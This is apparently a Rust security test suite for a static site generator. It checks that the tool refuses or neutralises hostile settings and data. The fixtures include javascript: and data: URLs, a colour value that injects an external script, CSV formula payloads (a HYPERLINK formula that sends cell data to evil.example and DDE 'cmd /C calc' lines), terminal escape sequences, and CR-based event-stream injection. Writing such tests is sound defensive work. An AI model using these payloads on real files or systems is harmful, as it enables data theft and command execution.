//! Hostile site settings and data: site.yaml URLs and colours that would go into every
//! page, formula cells in actions.csv, code that takes syntect minutes to highlight, and
//! control characters in file names and front matter on their way to a terminal or to the
//! live-reload event stream.

use crate::harness::{SITE_YAML, Site};

/// site.yaml with every URL and colour that goes into every page set to something
/// hostile, each on a line of its own so the test can name the line and column.
const HOSTILE_SETTINGS: &str = "\
title: T
base_url: \"javascript:alert(1)//\"
logo: \"javascript:alert(2)\"
menu:
  - name: Home
    url: /
  - name: Evil
    url: \"JavaScript:alert(3)\"
footer:
  - name: Data
    url: \"data:text/html,<script>alert(4)</script>\"
  - name: Elsewhere
    url: //tracker.example/
authors:
  amy:
    url: \"java\\tscript:alert(5)\"
colours:
  brand: \"#fff}</style><script src=https://tracker.example/t.js></script><style>\"
  brand_dark: red
";

#[test]
fn hostile_site_yaml_urls_and_colours_are_refused_each_at_its_line() {
    let site = Site::with_config(HOSTILE_SETTINGS);
    site.page("about.md", "title: About\n", "About us.\n");
    let run = site.build();
    run.assert_failed();
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    // Every bad value at once, each at the line and column of its value.
    for (at, what) in [
        ("site.yaml:2:11:", "`base_url`"),
        ("site.yaml:3:7:", "`logo`"),
        ("site.yaml:8:10:", "menu link `Evil`"),
        ("site.yaml:11:10:", "footer link `Data`"),
        ("site.yaml:13:10:", "footer link `Elsewhere`"),
        ("site.yaml:16:10:", "author `amy`"),
        ("site.yaml:18:10:", "`colours.brand`"),
        ("site.yaml:19:15:", "`colours.brand_dark`"),
    ] {
        let line = run
            .stderr
            .lines()
            .find(|l| l.starts_with(at))
            .unwrap_or_else(|| panic!("no error at {at} in:\n{}", run.stderr));
        assert!(line.contains(what), "{line}");
        assert!(line.contains(": error: "), "{line}");
    }
    assert_eq!(run.stderr.matches(": error: ").count(), 8, "{}", run.stderr);
    // The hints say what is allowed.
    for hint in [
        "starting https:// or http://",
        "a path on the site (/about/), a relative path (about/), an https:// or http:// URL, or a mailto: address",
        "put the logo in static/",
        "#rgb or #rrggbb",
    ] {
        assert!(
            run.stderr.contains(hint),
            "no hint {hint:?} in:\n{}",
            run.stderr
        );
    }
    assert!(!site.exists("index.html"), "a page was published");

    // `check` reports the same, as data.
    let check = site.run(&["check", "--format", "json"]);
    check.assert_failed();
    let report: serde_json::Value = serde_json::from_str(&check.stdout).unwrap();
    assert_eq!(report["errors"], 8, "{}", check.stdout);
}

#[test]
fn allowed_site_yaml_urls_and_colours_still_build() {
    let site = Site::with_config(&format!(
        "{SITE_YAML}logo: /images/logo.svg\nmenu:\n  - name: Blog\n    url: /blog/\n  - name: Gov\n    url: https://www.gov.uk/\n\
         footer:\n  - name: Mail\n    url: mailto:digital@test.example\n  - name: Up\n    url: ../about/\n\
         colours:\n  brand: \"#1d70B8\"\n  brand_dark: \"#fff\"\n"
    ));
    site.write(
        "static/images/logo.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    );
    site.page("about.md", "title: About\n", "About us.\n");
    site.build().assert_ok();
    let html = site.read("about/index.html");
    for expected in [
        "src=\"/images/logo.svg\"",
        "href=\"https://www.gov.uk/\"",
        "href=\"mailto:digital@test.example\"",
        "--brand: #1d70B8;",
    ] {
        assert!(html.contains(expected), "no {expected} in:\n{html}");
    }
}

/// Action texts, owners and a title that a spreadsheet would run as formulas.
const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
    "  =1+4",
    "Plain, with \"quotes\" and a comma",
];

#[test]
fn actions_csv_defuses_formula_cells_and_ends_lines_with_crlf() {
    let site = Site::new();
    site.page(
        "incidents/_index.md",
        "title: Incident reports\nkind: incident\n",
        "",
    );
    let yaml = |s: &str| serde_json::to_string(s).unwrap(); // a JSON string is a YAML one
    let actions: String = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, f)| {
            format!(
                "  - {{action: {}, owner: {}, due: 2026-0{}-01, status: open}}\n",
                yaml(f),
                yaml(FORMULAS[(i + 1) % FORMULAS.len()]),
                i + 1
            )
        })
        .collect();
    site.page(
        "incidents/a.md",
        &format!(
            "title: {}\ndate: 2024-03-12\nstatus: resolved\nseverity: P1\n\
             started: 2024-03-12T09:14:00+00:00\ndetected: 2024-03-12T09:41:00+00:00\n\
             resolved: 2024-03-12T13:02:00+00:00\nimpact: x\nactions:\n{actions}",
            yaml("=1+1")
        ),
        "## What could have gone better\n\nSpeed.\n",
    );
    site.build().assert_ok();
    let text = site.read("actions.csv");

    // RFC 4180 line endings: every record ends with CRLF, and no bare LF anywhere.
    assert!(text.ends_with("\r\n"), "{text:?}");
    assert!(
        !text.replace("\r\n", "").contains('\n'),
        "a bare LF: {text:?}"
    );

    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), FORMULAS.len(), "{text:?}");
    assert_eq!(text.matches("\r\n").count(), FORMULAS.len() + 1, "{text:?}");
    let defused = |written: &str| {
        let risky = written.starts_with(['\t', '\r'])
            || written.trim_start().starts_with(['=', '+', '-', '@']);
        if risky {
            format!("'{written}")
        } else {
            written.to_string()
        }
    };
    for row in &rows {
        assert_eq!(&row[1], "'=1+1", "the title: {row:?}");
        // Each cell as written (daylight trims owners), with a quote in front when a
        // spreadsheet would run it.
        let is = |cell: &str, f: &str| cell == defused(f) || cell == defused(f.trim());
        let i = FORMULAS
            .iter()
            .position(|f| is(&row[4], f))
            .unwrap_or_else(|| panic!("action {:?} is not one written, defused", &row[4]));
        assert!(is(&row[5], FORMULAS[(i + 1) % FORMULAS.len()]), "{row:?}");
        for cell in row.iter() {
            assert!(
                !cell.trim_start().starts_with(['=', '+', '-', '@'])
                    && !cell.starts_with(['\t', '\r']),
                "a live formula cell {cell:?} in {row:?}"
            );
        }
    }
}

#[test]
fn a_500_kb_line_of_markdown_code_is_left_plain_with_a_warning_not_highlighted_for_minutes() {
    // One line of 500 KB that syntect's Markdown grammar took over 5 minutes on. No time
    // is asserted (machines are noisy): the proof is that the block was not highlighted
    // and the reader is told why, at the line.
    let site = Site::new();
    let line = "[".repeat(500 * 1024);
    site.page(
        "big.md",
        "title: Big\n",
        &format!("Some text.\n\n```markdown\n{line}\n```\n\nAfter.\n"),
    );
    let run = site.build();
    run.assert_ok();
    let warning = "content/big.md:7:1: warning: `markdown` code not highlighted: a line of 500 KB is longer than the 16 KB daylight highlights";
    assert!(run.stderr.contains(warning), "{}", run.stderr);
    let html = site.read("big/index.html");
    let code = format!("<code class=\"language-markdown\">{line}\n</code>");
    assert!(
        html.contains(&code),
        "the block is not the plain, escaped code"
    );
    let check = site.run(&["check"]);
    assert!(check.stderr.contains(warning), "{}", check.stderr);
}

#[test]
fn a_page_with_too_much_code_highlights_the_first_blocks_and_warns_once() {
    let site = Site::new();
    // Four blocks of 60 KB: two fit in the page's 128 KB, the third and fourth do not.
    let block = "let x = 1;\n".repeat(60 * 1024 / 11);
    let body: String = (0..4).map(|_| format!("```rust\n{block}```\n\n")).collect();
    site.page("code.md", "title: Code\n", &body);
    let run = site.build();
    run.assert_ok();
    let html = site.read("code/index.html");
    let blocks: Vec<&str> = html
        .split("<code class=\"language-rust\">")
        .skip(1)
        .collect();
    assert_eq!(blocks.len(), 4);
    let highlighted: Vec<bool> = blocks
        .iter()
        .map(|b| b[..b.find("</code>").unwrap()].contains("class=\"hl-"))
        .collect();
    assert_eq!(highlighted, [true, true, false, false]);
    // The body starts on line 4; each block is its lines, two fences and a blank line.
    let third_fence = 4 + 2 * (block.lines().count() + 3);
    let warnings: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| l.contains("code not highlighted"))
        .collect();
    assert_eq!(warnings.len(), 1, "{}", run.stderr);
    assert!(
        warnings[0].starts_with(&format!("content/code.md:{third_fence}:1: warning:")),
        "{}",
        run.stderr
    );
}

/// Bytes a terminal obeys rather than shows: ESC (which starts colour, cursor and
/// "clear screen" sequences), CR (back to the start of the line, to overwrite it), BEL
/// and the one-byte CSI.
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| c.is_control() && *c != '\n')
        .collect()
}

#[test]
fn control_characters_in_file_names_and_front_matter_reach_the_terminal_escaped() {
    let site = Site::new();
    // A file name that clears the screen and returns to the start of the line…
    site.page("bad\u{1b}[2J\rname.md", "title: A\ntitel: x\n", "Body.\n");
    // …a key that YAML's own escapes fill with the same…
    site.page(
        "b.md",
        "title: B\n\"ti\\e[2J\\r\\u009btle\": x\n",
        "Body.\n",
    );
    // …and a left-out draft, listed by name after the problems.
    site.page(
        "dra\u{1b}]0;pwned\u{7}ft.md",
        "title: D\ndraft: true\n",
        "Draft.\n",
    );
    for run in [site.build(), site.run(&["check"])] {
        run.assert_failed();
        assert_eq!(
            raw_controls(&run.stderr),
            Vec::<char>::new(),
            "{:?}",
            run.stderr
        );
        for shown in [
            "content/bad\\u{1b}[2J\\rname.md:3:1: error: unknown key `titel`",
            "content/b.md:3:1: error: unknown key `ti\\u{1b}[2J\\r\\u{9b}tle`",
        ] {
            assert!(
                run.stderr.contains(shown),
                "no {shown:?} in:\n{}",
                run.stderr
            );
        }
    }
    // With the problems fixed, the left-out draft is listed with its name escaped.
    std::fs::remove_file(site.path("content/bad\u{1b}[2J\rname.md")).unwrap();
    site.page("b.md", "title: B\n", "Body.\n");
    let run = site.build();
    run.assert_ok();
    assert_eq!(
        raw_controls(&run.stderr),
        Vec::<char>::new(),
        "{:?}",
        run.stderr
    );
    assert!(
        run.stderr.contains("dra\\u{1b}]0;pwned\\u{7}ft.md"),
        "{}",
        run.stderr
    );
}

/// Reads a server-sent event stream as EventSource does (a line ends at CRLF, LF or a
/// lone CR; a blank line dispatches): the events, as (name, data).
fn events(stream: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let (mut name, mut data) = (String::new(), Vec::<String>::new());
    for line in stream.replace("\r\n", "\n").replace('\r', "\n").split('\n') {
        if line.is_empty() {
            if !data.is_empty() {
                out.push((std::mem::take(&mut name), data.join("\n")));
                data.clear();
            }
            name.clear();
        } else if let Some(v) = line.strip_prefix("event:") {
            name = v.trim_start().to_string();
        } else if let Some(v) = line.strip_prefix("data:") {
            data.push(v.strip_prefix(' ').unwrap_or(v).to_string());
        }
    }
    out
}

#[test]
fn a_cr_in_a_file_name_does_not_inject_a_live_reload_event() {
    use std::io::{Read, Write};
    use std::time::{Duration, Instant};

    let site = Site::new();
    site.page("about.md", "title: About\n", "About us.\n");
    let server = site.serve();
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", server.port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    write!(
        stream,
        "GET /__daylight/events HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    )
    .unwrap();
    let mut raw = Vec::new();
    let mut buf = [0u8; 4096];
    let mut read_until = |raw: &mut Vec<u8>, done: &dyn Fn(&str) -> bool| {
        let deadline = Instant::now() + Duration::from_secs(15);
        while Instant::now() < deadline {
            if let Ok(n) = stream.read(&mut buf) {
                raw.extend_from_slice(&buf[..n]);
            }
            if done(&String::from_utf8_lossy(raw)) {
                return;
            }
        }
        panic!("not seen in 15 s:\n{:?}", String::from_utf8_lossy(raw));
    };
    read_until(&mut raw, &|s| s.contains("\r\n\r\n"));

    // A broken page whose name, raw in the stream, would end the `failed` event early
    // and start one of its own.
    let name = "x\r\revent: injected\rdata: gotcha\r\r.md";
    site.page(name, "title: X\ntitel: typo\n", "Body.\n");
    read_until(&mut raw, &|s| {
        s.split_once("\r\n\r\n")
            .is_some_and(|(_, body)| body.contains("event: failed") && body.ends_with("\n\n"))
    });

    let text = String::from_utf8_lossy(&raw).into_owned();
    let (_, body) = text.split_once("\r\n\r\n").unwrap();
    let seen = events(body);
    for (event, _) in &seen {
        assert!(
            ["failed", "reload", "css"].contains(&event.as_str()),
            "an injected event {event:?} in {body:?}"
        );
    }
    let (_, data) = seen
        .iter()
        .find(|(e, _)| e == "failed")
        .unwrap_or_else(|| panic!("no failed event in {body:?}"));
    assert!(
        data.contains(
            "content/x\\r\\revent: injected\\rdata: gotcha\\r\\r.md:3:1: error: unknown key `titel`"
        ),
        "{data:?}"
    );
}
